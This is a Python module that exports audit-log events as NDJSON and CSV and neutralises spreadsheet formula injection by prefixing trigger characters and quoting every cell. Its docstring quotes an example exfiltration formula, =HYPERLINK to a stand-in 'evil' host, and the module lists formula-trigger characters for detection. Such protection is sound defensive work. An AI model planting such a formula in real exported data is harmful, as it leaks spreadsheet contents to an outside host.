"""Export formats of the console: NDJSON (the stored documents) and CSV (chosen columns).

CSV is opened by spreadsheets, which run a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, in some, tab or carriage return) as a formula: a stored value such as
``=HYPERLINK("http://evil/?"&A1)`` written by any emitter would run on the auditor's
machine. Following the OWASP CSV injection advice, such a cell is prefixed with a single
quote, which spreadsheets show as text; leading spaces do not hide a trigger. Every
cell is quoted, quotes are doubled, so a value can never start a new cell or row.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

import orjson

__all__ = ["CSV_COLUMNS", "csv_cell", "csv_header", "csv_row", "ndjson_line"]

CSV_COLUMNS: tuple[str, ...] = (
    "@timestamp",
    "event.id",
    "event.action",
    "audit.category",
    "audit.outcome",
    "user.id",
    "audit.actor.type",
    "user.name",
    "audit.resource.type",
    "audit.resource.id",
    "service.name",
    "organization.id",
    "trace.id",
    "span.id",
    "audit.correlation_id",
    "client.ip",
    "event.reason",
    "message",
)
"""Stored fields exported as CSV columns, in order (the header row names them)."""

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _value(doc: Mapping[str, Any], dotted: str) -> Any:
    if dotted in doc:
        return doc[dotted]
    node: Any = doc
    for part in dotted.split("."):
        if not isinstance(node, Mapping) or part not in node:
            return None
        node = node[part]
    return node


def csv_cell(value: Any) -> str:
    """One quoted CSV cell; formula triggers neutralised (see the module docstring)."""
    if value is None:
        text = ""
    elif isinstance(value, str):
        text = value
    elif isinstance(value, list) and all(isinstance(v, str) for v in value):
        text = " ".join(value)
    else:
        text = orjson.dumps(value).decode()
    if text.lstrip(" ").startswith(_FORMULA_START):
        text = "'" + text
    return '"' + text.replace('"', '""') + '"'


def csv_header() -> str:
    """The header row (our own field names, quoted as they are), CRLF-terminated."""
    return ",".join(f'"{c}"' for c in CSV_COLUMNS) + "\r\n"


def csv_row(doc: Mapping[str, Any], columns: Iterable[str] = CSV_COLUMNS) -> str:
    """One event as a CRLF-terminated CSV row."""
    return ",".join(csv_cell(_value(doc, c)) for c in columns) + "\r\n"


def ndjson_line(doc: Mapping[str, Any]) -> bytes:
    """One event as a JSON line."""
    return orjson.dumps(doc) + b"\n"
